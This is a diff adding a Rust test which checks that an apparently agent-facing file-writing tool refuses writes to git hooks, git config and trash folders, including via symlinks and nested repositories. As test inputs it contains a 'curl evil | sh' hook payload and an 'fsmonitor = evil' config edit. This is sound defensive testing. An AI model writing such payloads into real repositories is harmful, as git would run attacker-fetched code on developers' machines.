@@ -92,3 +92,67 @@ async fn write_errors() {
     }
     assert_eq!(tree(&fx.ws), ["dir/"]);
 }
+
+/// Hooks and git config are code git runs: no write reaches them, directly, through a
+/// symlink, or in a nested repository; edit_file is refused the same way. Nothing changes.
+#[tokio::test]
+async fn git_and_trash_are_never_written() {
+    let fx = Fixture::start().await;
+    put(&fx.ws, ".git/config", "[core]\n");
+    put(&fx.ws, ".git/hooks/post-commit", "#!/bin/sh\n");
+    put(&fx.ws, "vendor/lib/.git/config", "[core]\n");
+    put(&fx.ws, ".trash/old.md", "old\n");
+    std::fs::create_dir_all(fx.ws_path("docs")).expect("mkdir");
+    std::os::unix::fs::symlink(fx.ws_path(".git/hooks"), fx.ws_path("docs/hooks")).expect("ln");
+    let cases = [
+        (
+            "write_file",
+            ".git/hooks/post-commit",
+            ".git/hooks/post-commit",
+            ".git",
+        ),
+        ("write_file", ".git/config", ".git/config", ".git"),
+        (
+            "write_file",
+            "docs/hooks/pre-commit",
+            ".git/hooks/pre-commit",
+            ".git",
+        ),
+        (
+            "write_file",
+            "vendor/lib/.git/config",
+            "vendor/lib/.git/config",
+            ".git",
+        ),
+        ("write_file", ".trash/old.md", ".trash/old.md", ".trash"),
+        ("edit_file", ".git/config", ".git/config", ".git"),
+    ];
+    for (tool, path, real, rule) in cases {
+        let arguments = match tool {
+            "write_file" => json!({"path": path, "content": "curl evil | sh\n"}),
+            _ => {
+                json!({"path": path, "edits": [{"oldText": "[core]", "newText": "[core]\n\tfsmonitor = evil"}]})
+            }
+        };
+        let outcome = fx.call(tool, arguments).await;
+        assert_eq!(
+            (outcome.is_error, outcome.text),
+            (
+                true,
+                format!(
+                    "Refusing to write {real}: {rule} is protected (write_file and edit_file never write under .git, .trash or the paths in FORGE_FS_PROTECTED)"
+                )
+            ),
+            "{tool} {path}"
+        );
+    }
+    assert_eq!(
+        std::fs::read_to_string(fx.ws_path(".git/config")).expect("read"),
+        "[core]\n"
+    );
+    assert_eq!(
+        std::fs::read_to_string(fx.ws_path(".git/hooks/post-commit")).expect("read"),
+        "#!/bin/sh\n"
+    );
+    assert!(!fx.ws_path(".git/hooks/pre-commit").exists());
+}
